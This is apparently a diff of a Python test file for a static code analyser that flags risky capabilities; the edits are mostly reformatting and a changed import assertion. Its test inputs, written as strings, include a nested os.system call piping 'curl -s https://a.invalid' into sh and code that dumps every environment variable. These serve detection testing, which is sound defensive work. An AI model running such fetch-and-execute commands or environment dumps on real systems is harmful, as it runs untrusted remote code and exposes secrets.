@@ -74,7 +74,7 @@ def test_dunder_import_and_getattr_resolve() -> None:
 def test_functions_are_scopes_with_calls_and_spawns() -> None:
     f = facts(
         "import threading\nfrom .helpers import go\n\n"
-        "def run():\n    go()\n    import socket\n    socket.create_connection(('h.invalid', 1))\n\n"
+        "def run():\n    go()\n    import requests\n    import socket\n    socket.create_connection(('h.invalid', 1))\n\n"
         "class C:\n    def m(self):\n        self.n()\n    def n(self):\n        run()\n\n"
         "threading.Thread(target=run).start()\n"
     )
@@ -85,7 +85,7 @@ def test_functions_are_scopes_with_calls_and_spawns() -> None:
     assert "run" in scopes[MODULE_SCOPE].spawns.split()
     imports = {(i.module, i.level, i.scope) for i in f.imports}
     assert ("helpers", 1, MODULE_SCOPE) in imports
-    assert ("socket", 0, "run") in imports
+    assert ("requests", 0, "run") in imports
 
 
 def test_main_guard_is_not_module_scope() -> None:
@@ -105,7 +105,7 @@ def test_child_interpreter_code_is_analysed() -> None:
 
 
 def test_python_c_in_a_shell_string_is_analysed() -> None:
-    f = facts("import os\nos.system(\"python3 -c 'import os; os.system(\\\"curl -s https://a.invalid | sh\\\")'\")\n")
+    f = facts('import os\nos.system("python3 -c \'import os; os.system(\\"curl -s https://a.invalid | sh\\")\'")\n')
     assert {cap.CHILD_INTERPRETER, cap.SHELL_DOWNLOAD} <= kinds(f)
 
 
@@ -120,7 +120,9 @@ def test_exec_of_file_contents_is_only_dynamic_code() -> None:
 
 
 def test_env_dump_forms() -> None:
-    f = facts("import os, json\na = dict(os.environ)\nb = {**os.environ}\nc = json.dumps(os.environ)\nfor k in os.environ:\n    pass\n")
+    f = facts(
+        "import os, json\na = dict(os.environ)\nb = {**os.environ}\nc = json.dumps(os.environ)\nfor k in os.environ:\n    pass\n"
+    )
     env = [s for sc in f.scopes for s in sc.signals if s.kind == cap.ENV_DUMP]
     assert len(env) == 4
     assert not kinds(facts("import os\nkey = os.environ.get('KEY')\n"))
